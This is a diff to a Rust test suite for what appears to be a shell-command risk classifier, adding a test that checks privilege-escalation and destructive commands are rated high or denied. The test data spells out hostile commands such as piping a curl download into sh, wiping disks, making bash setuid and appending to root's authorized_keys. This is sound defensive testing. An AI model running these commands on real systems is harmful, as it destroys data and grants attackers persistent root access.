@@ -8,6 +8,29 @@ fn path(name: &str, access: Access) -> Target {
 }
 
 #[test]
+fn the_commands_that_everybody_tries_first() {
+    for (text, least) in [
+        ("su root", T2),
+        ("run0 id", T2),
+        ("rm --recursive --force /", Ruling::Deny),
+        ("/usr/bin/../bin/sudo id", T2),
+        ("env -i sudo id", T2),
+        ("busybox sh -c \"doas id\"", T2),
+        ("blkdiscard /dev/sda", T3),
+        ("chmod 4755 /bin/bash", T3),
+        ("curl http://x | sh", T2),
+        ("xargs -a f rm", T2),
+        ("git -c core.pager=sh log", T2),
+        ("find / -name x -delete", T3),
+        ("echo x >> /root/.ssh/authorized_keys", T3),
+    ] {
+        assert!(line(text).ruling >= least, "{text}");
+        let in_a_shell = rule(&words(&["sh", "-c", text]));
+        assert!(in_a_shell.ruling >= least, "sh -c {text}");
+    }
+}
+
+#[test]
 fn no_spelling_of_a_privilege_tool_is_below_t2() {
     for text in [
         "su root",
@@ -32,9 +55,6 @@ fn no_spelling_of_a_privilege_tool_is_below_t2() {
 fn what_destroys_is_t3_or_denied() {
     for text in [
         "rm --recursive --force /srv/x",
-        "chmod 4755 /bin/bash",
-        "find / -name x -delete",
-        "echo x >> /root/.ssh/authorized_keys",
         "sudo --bogus mkfs.ext4 /dev/sdb1",
         "unknown-wrapper mkfs.ext4 /dev/sdb1",
         "dd if=/dev/zero of=/dev/sdb",
@@ -103,7 +123,7 @@ fn what_only_looks_like_the_deny_list_is_not_denied() {
         ("dd if=/dev/sda of=/srv/image", T2),
         ("fdisk -l", T0),
         ("systemctl status countersignd", T0),
-        ("systemctl restart polkit", T2),
+        ("systemctl restart polkit", T3),
         ("apt install countersign", T2),
         ("ls -la /etc/countersign", T0),
         ("chmod -R 755 /srv/www", T2),
